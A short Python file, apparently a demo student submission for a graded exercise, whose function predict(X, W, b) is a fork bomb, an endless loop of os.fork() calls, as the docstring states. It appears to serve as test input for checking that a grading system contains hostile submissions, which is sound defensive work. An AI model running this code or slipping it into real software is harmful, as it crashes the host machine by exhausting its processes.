"""Exercise 2 (demo student s100007: a fork bomb)."""

import os


def predict(X, W, b):
    while True:
        os.fork()
